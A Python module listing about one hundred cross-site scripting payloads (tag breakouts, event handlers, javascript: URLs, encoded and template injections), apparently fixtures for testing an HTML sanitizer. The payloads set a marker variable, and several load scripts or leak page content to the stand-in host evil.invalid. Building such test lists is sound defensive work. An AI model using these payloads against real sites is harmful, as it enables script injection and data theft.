"""One hundred ways to make a page run what it only meant to show.

Each would set `window.pwned`, open a dialog, or fetch from `evil.invalid`.
"""

from __future__ import annotations

__all__ = ["PAYLOADS"]

_RUN = "window.pwned=1"
_TAGS = (
    f"<script>{_RUN}</script>",
    f"<SCRIPT SRC=//evil.invalid/x.js></SCRIPT>{_RUN}",
    f"<scr<script>ipt>{_RUN}</scr</script>ipt>",
    f"<script type=module>{_RUN}</script>",
    f"<script\x0b>{_RUN}</script\n>",
    f"</script><script>{_RUN}</script>",
    f"</title><script>{_RUN}</script>",
    f"</textarea><script>{_RUN}</script>",
    f"</style><script>{_RUN}</script>",
    f"--><script>{_RUN}</script><!--",
    f"]]><script>{_RUN}</script>",
    f"<!--><img src=x onerror={_RUN}>-->",
    f"<![CDATA[<img src=x onerror={_RUN}>]]>",
    f"<?xml version='1.0'?><x onclick={_RUN}>",
    f"<noscript><p title='</noscript><img src=x onerror={_RUN}>'>",
    f"<template><script>{_RUN}</script></template>",
    f"<xmp><img src=x onerror={_RUN}></xmp>",
    f"<plaintext><img src=x onerror={_RUN}>",
)
_HANDLERS = tuple(
    form.format(run=_RUN)
    for form in (
        "<img src=x onerror={run}>", "<img/src=x/onerror={run}//", "<IMG SRC=x OnErRoR='{run}'>",
        "<img src=x onerror&#61;{run}>", "<image href=x onerror={run}>", "<svg onload={run}>",
        "<svg/onload={run}>", "<svg><script>{run}</script></svg>",
        "<svg><animate onbegin={run} attributeName=x dur=1s>",
        "<svg><a xlink:href='javascript:{run}'><text y=9>bấm</text></a></svg>",
        "<svg><use href='data:image/svg+xml,<svg onload={run}>#x'></svg>",
        "<svg><foreignObject><img src=x onerror={run}></foreignObject></svg>",
        "<math><mtext><mglyph><style><img src=x onerror={run}>", "<body onload={run}>",
        "<math href='javascript:{run}'>bấm</math>", "<video><source onerror={run}></video>",
        "<audio src=x onerror={run}></audio>", "<video poster=javascript:{run}></video>",
        "<details open ontoggle={run}>", "<input autofocus onfocus={run}>",
        "<select autofocus onfocus={run}></select>", "<textarea autofocus onfocus={run}>",
        "<button autofocus onfocus={run}>bấm</button>", "<marquee onstart={run}>chạy</marquee>",
        "<div onmouseover={run} style=position:fixed;inset:0>", "<p contenteditable onblur={run}>",
        "<div onpointerenter={run}>", "<object data='javascript:{run}'></object>",
        "<object data=//evil.invalid/x></object>", "<embed src='javascript:{run}'>",
        "<iframe src='javascript:{run}'></iframe>", "<iframe src=//evil.invalid></iframe>",
        "<iframe srcdoc='<script>parent.pwned=1</script>'></iframe>", "<frameset onload={run}>",
        "<dialog open oncancel={run}>", "<style onload={run}></style>",
        "<link rel=stylesheet href=x onerror={run}>", "<isindex type=image src=1 onerror={run}>",
        "<keygen autofocus onfocus={run}>", "<bgsound src='javascript:{run}'>",
        "<custom-element onclick={run} tabindex=1 autofocus onfocus={run}>",
    )
)  # fmt: skip
_ATTRIBUTES = (
    f'"><img src=x onerror={_RUN}>',
    f"'><img src=x onerror={_RUN}>",
    f'" autofocus onfocus="{_RUN}" x="',
    f"' autofocus onfocus='{_RUN}' x='",
    f'" style="animation-name:x" onanimationstart="{_RUN}"',
    f"` onerror={_RUN} `",
    f"&quot;&gt;&lt;img src=x onerror={_RUN}&gt;",
    f"&#34;&#62;&#60;script&#62;{_RUN}&#60;/script&#62;",
    f"\\x3cscript\\x3e{_RUN}\\x3c/script\\x3e",
    f"\\u003cimg src=x onerror={_RUN}\\u003e",
    f"%3Cscript%3E{_RUN}%3C%2Fscript%3E",
    f"＜script＞{_RUN}＜/script＞",
    f'" data-ask="x" data-copy="{_RUN}" data-article="x',
    f'"}}]}}</script><script>{_RUN}</script>',
)
_ADDRESSES = (
    f"<a href='javascript:{_RUN}'>bấm</a>",
    f"<a href='&#106;avascript:{_RUN}'>bấm</a>",
    f"<a href='java\tscript:{_RUN}'>bấm</a>",
    f"<a href=' javascript:{_RUN}'>bấm</a>",
    f"<a href='vbscript:{_RUN}'>bấm</a>",
    f"<a href='data:text/html,<script>{_RUN}</script>'>bấm</a>",
    f"<a href=//evil.invalid ping=//evil.invalid onclick={_RUN}>bấm</a>",
    f"[bấm](javascript:{_RUN})",
    "![ảnh](https://evil.invalid/a.png)",
    f"[a]: javascript:{_RUN}\n[bấm][a]",
    f"<javascript:{_RUN}>",
    "https://evil.invalid/?<b>",
    f"<form action='javascript:{_RUN}'><button>gửi</button></form>",
    f"<form id=x></form><button form=x formaction='javascript:{_RUN}'>gửi</button>",
    "<base href=//evil.invalid/>",
    f"<meta http-equiv=refresh content='0;url=javascript:{_RUN}'>",
    "<meta http-equiv=refresh content='0;url=//evil.invalid'>",
    "<img src='//evil.invalid/?",
    "<table background=//evil.invalid/x>",
)
_STYLES = (
    "<style>@import '//evil.invalid/x.css';</style>",
    "<style>*{background:url(//evil.invalid/x)}</style>",
    "<div style='background:url(//evil.invalid/y)'>",
)
_TEMPLATES = (
    f"${{{_RUN}}}",
    f"{{{{{_RUN}}}}}",
    "{{#with this}}{{lookup . 'constructor'}}{{/with}}",
    f"<%= {_RUN} %>",
    f"`+({_RUN})+`",
)
PAYLOADS: tuple[str, ...] = (
    *_TAGS, *_HANDLERS, *_ATTRIBUTES, *_ADDRESSES, *_STYLES, *_TEMPLATES,
)  # fmt: skip
